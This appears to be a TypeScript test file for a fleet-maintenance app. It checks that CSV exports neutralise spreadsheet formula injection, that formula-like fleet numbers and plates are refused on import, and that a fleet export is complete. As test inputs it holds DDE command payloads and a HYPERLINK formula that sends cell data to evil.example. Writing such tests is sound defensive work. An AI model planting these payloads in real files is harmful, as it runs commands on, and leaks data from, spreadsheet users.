/**
 * Every CSV the app hands out is safe to open in a spreadsheet (issue #13, items 14 and
 * 15): text that would start a formula comes out with a quote in front, numbers stay
 * numbers, identifiers that start like a formula are refused at the door, and the vehicle
 * export holds the whole fleet, not the first 2,000.
 */
import { parse } from "csv-parse/sync";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BUILT_IN_COMPETENCIES } from "../../src/core/competencies.js";
import { Client, createTestApp, type TestApp } from "../helpers/app.js";
import {
  TEST_PASSWORD,
  disableDefectWorkOrders,
  makeCertificate,
  makeDepot,
  makeModel,
  makeNetwork,
  makeUser,
  makeVehicle,
  randomVin,
} from "../helpers/factories.js";
import { formFor, inspectionBody, submit } from "../helpers/inspections.js";

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

interface ErrorJson {
  error: {
    code: string;
    message: string;
    field?: string;
    details?: { line?: number; field?: string; message: string }[];
  };
}

const SIGNATURE = "=cmd|' /C calc'!A0";
const COMMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const today = new Date().toISOString().slice(0, 10);

/** The CSV as records keyed by the header, the way a spreadsheet would read the cells. */
function records(body: string): Record<string, string>[] {
  return parse(body, { columns: true, skip_empty_lines: true });
}

async function signIn(email: string): Promise<Client> {
  const client = new Client(t.app);
  expect((await client.login(email, TEST_PASSWORD)).statusCode).toBe(200);
  return client;
}

describe("inspection and defect exports", () => {
  it("neutralises a hostile signature, comment and name, and leaves numbers alone", async () => {
    const n = await makeNetwork(t.db);
    await disableDefectWorkOrders(t.db, n.operatorA.id);
    const depot = await makeDepot(t.db, n.operatorA.id);
    const model = await makeModel(t.db, { powertrain: "diesel" });
    const vehicle = await makeVehicle(t.db, n.operatorA.id, model.id, { depotId: depot.id });
    const mechanic = await makeUser(t.db, [[n.operatorA.id, "mechanic"]]);
    await t.db
      .updateTable("users")
      .set({ name: "@SUM(1+1)*cmd|' /C calc'!A0" })
      .where("id", "=", mechanic.id)
      .execute();
    for (const competency of BUILT_IN_COMPETENCIES)
      await makeCertificate(t.db, mechanic.id, n.operatorA.id, competency.key);
    const driver = await signIn(n.driverA.email);
    const manager = await signIn(n.managerA.email);

    const form = await formFor(driver, vehicle.id);
    const body = inspectionBody(form, vehicle.id, { fail: ["lights"], meterValue: 40_000 });
    const submitted = await submit(driver, {
      ...body,
      comments: COMMENT,
      signature: { name: SIGNATURE, confirmed: true },
    });
    expect(submitted.statusCode).toBe(201);
    const defectId =
      submitted.json<{ defectsOpened: { id: string }[] }>().defectsOpened[0]?.id ?? "";
    const mechanicClient = await signIn(mechanic.email);
    const repaired = await mechanicClient.post(`/api/v1/defects/${defectId}/repair`, {
      action: "repaired",
      note: "+bulb replaced",
    });
    expect(repaired.statusCode).toBe(200);

    const inspections = await manager.get(
      `/api/v1/inspections/export.csv?from=${today}&to=${today}&depotId=${depot.id}&format=machine`,
    );
    expect(inspections.statusCode).toBe(200);
    const [row] = records(inspections.body);
    expect(row?.signed_by).toBe(`'${SIGNATURE}`);
    expect(row?.comments).toBe(`'${COMMENT}`);
    expect(row?.odometer_km).toBe("40000");
    // No cell of the file starts a formula.
    for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const defects = await manager.get(
      `/api/v1/defects/export.csv?from=${today}&to=${today}&depotId=${depot.id}&format=machine`,
    );
    const [defect] = records(defects.body);
    expect(defect?.certified_by).toMatch(
      /^'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0 .*: \+bulb replaced$/,
    );
    for (const cell of Object.values(defect ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("report exports", () => {
  it("neutralises a depot and an organisation named like formulas in a report's CSV", async () => {
    const n = await makeNetwork(t.db);
    const depot = await makeDepot(t.db, n.operatorA.id);
    await t.db
      .updateTable("depots")
      .set({ name: "-2+3+cmd|' /C calc'!A0" })
      .where("id", "=", depot.id)
      .execute();
    await t.db
      .updateTable("organisations")
      .set({ name: "\t=1+1" })
      .where("id", "=", n.operatorA.id)
      .execute();
    const model = await makeModel(t.db);
    await makeVehicle(t.db, n.operatorA.id, model.id, { depotId: depot.id });
    const manager = await signIn(n.managerA.email);
    const response = await manager.get(
      `/api/v1/reports/availability.csv?from=${today}&to=${today}&format=machine`,
    );
    expect(response.statusCode).toBe(200);
    const rows = records(response.body);
    const depotRow = rows.find((r) => r.depotName?.includes("cmd|"));
    expect(depotRow?.depotName).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(depotRow?.organisationName).toBe("'\t=1+1");
    // Counts stay plain numbers: one vehicle for one day.
    expect(depotRow?.vehicleDays).toBe("1");
  });
});

describe("vehicle identifiers and the vehicle export", () => {
  async function managerOfA() {
    const n = await makeNetwork(t.db);
    const depot = await makeDepot(t.db, n.operatorA.id);
    const model = await makeModel(t.db, { powertrain: "cng" });
    return { n, depot, model, manager: await signIn(n.managerA.email) };
  }
  const vehiclesOf = async (organisationId: string) =>
    (
      await t.db
        .selectFrom("vehicles")
        .select(sql<number>`count(*)::int`.as("count"))
        .where("organisation_id", "=", organisationId)
        .executeTakeFirstOrThrow()
    ).count;

  it("refuses an import with a formula-like fleet number, naming the row, and stores nothing", async () => {
    const { n, depot, model, manager } = await managerOfA();
    const line = (fleetNumber: string, plate = "") =>
      `${fleetNumber},${randomVin()},${plate},Testmaker,${model.model},cng,${depot.name},2023-01-01,active`;
    const refused = await manager.request({
      method: "POST",
      url: `/api/v1/vehicles/import?organisationId=${n.operatorA.id}`,
      payload: [
        "fleet_number,vin,registration_plate,maker,model,powertrain,depot,in_service_date,status",
        line("701"),
        line(`"=HYPERLINK(""http://evil.example"",""x"")"`),
        line("703", "@A1"),
        line("704"),
      ].join("\n"),
      headers: { "content-type": "text/csv" },
    });
    expect(refused.statusCode).toBe(400);
    const error = refused.json<ErrorJson>().error;
    expect(error.code).toBe("VALIDATION_FAILED");
    expect(error.message).toMatch(/nothing was imported/);
    expect(error.details?.map((d) => [d.line, d.field])).toEqual([
      [3, "fleet_number"],
      [4, "registration_plate"],
    ]);
    expect(error.details?.[0]?.message).toMatch(/^fleet_number: must not start with "="/);
    expect(await vehiclesOf(n.operatorA.id)).toBe(0);
  });

  it("refuses to create or rename a vehicle with a formula-like fleet number or plate", async () => {
    const { n, model, manager } = await managerOfA();
    const base = { organisationId: n.operatorA.id, modelId: model.id, vin: randomVin() };
    for (const [field, value] of [
      ["fleetNumber", "=1+1"],
      ["fleetNumber", "-12"],
      ["fleetNumber", "\t=1"],
      ["registrationPlate", "+79990001122"],
    ] as const) {
      const response = await manager.post("/api/v1/vehicles", {
        fleetNumber: "801",
        ...base,
        [field]: value,
      });
      expect(response.statusCode, `${field} ${value}`).toBe(400);
      expect(response.json<ErrorJson>().error.field).toBe(field);
      expect(response.json<ErrorJson>().error.message).toMatch(
        new RegExp(`^${field}: must not start with`),
      );
    }
    expect(await vehiclesOf(n.operatorA.id)).toBe(0);
    const created = await manager.post("/api/v1/vehicles", { fleetNumber: "801", ...base });
    expect(created.statusCode).toBe(201);
    const id = created.json<{ id: string }>().id;
    const renamed = await manager.patch(`/api/v1/vehicles/${id}`, { fleetNumber: "@801" });
    expect(renamed.json<ErrorJson>().error.field).toBe("fleetNumber");
    const stored = await t.db
      .selectFrom("vehicles")
      .select("fleet_number")
      .where("id", "=", id)
      .executeTakeFirstOrThrow();
    expect(stored.fleet_number).toBe("801");
  });

  it("neutralises a formula-like fleet number stored before the check existed", async () => {
    const { n, depot, model, manager } = await managerOfA();
    const vehicle = await makeVehicle(t.db, n.operatorA.id, model.id, { depotId: depot.id });
    await t.db
      .updateTable("vehicles")
      .set({ fleet_number: "=cmd|' /C calc'!A0" })
      .where("id", "=", vehicle.id)
      .execute();
    const exported = await manager.get(
      `/api/v1/vehicles/export.csv?organisationId=${n.operatorA.id}&format=machine`,
    );
    expect(records(exported.body).map((r) => r.fleet_number)).toEqual(["'=cmd|' /C calc'!A0"]);
  });

  it("exports all 2,500 vehicles of an operator, each once", async () => {
    const { n, model, manager } = await managerOfA();
    const fleetNumbers = Array.from({ length: 2500 }, (_, i) => `F${String(i).padStart(5, "0")}`);
    await t.db
      .insertInto("vehicles")
      .values(
        fleetNumbers.map((fleetNumber) => ({
          organisation_id: n.operatorA.id,
          model_id: model.id,
          vin: randomVin(),
          fleet_number: fleetNumber,
          status: "active" as const,
        })),
      )
      .execute();
    // Another operator's fleet stays out of it.
    await makeVehicle(t.db, n.operatorB.id, model.id);
    const exported = await manager.get(
      `/api/v1/vehicles/export.csv?organisationId=${n.operatorA.id}&format=machine`,
    );
    expect(exported.statusCode).toBe(200);
    expect(exported.headers["content-type"]).toMatch(/text\/csv/);
    const rows = records(exported.body);
    expect(rows).toHaveLength(2500);
    expect(rows.map((r) => r.fleet_number)).toEqual(fleetNumbers);
    // Without the organisation filter the manager still sees exactly their own fleet.
    const all = await manager.get("/api/v1/vehicles/export.csv?format=machine");
    expect(records(all.body)).toHaveLength(2500);
  });
});
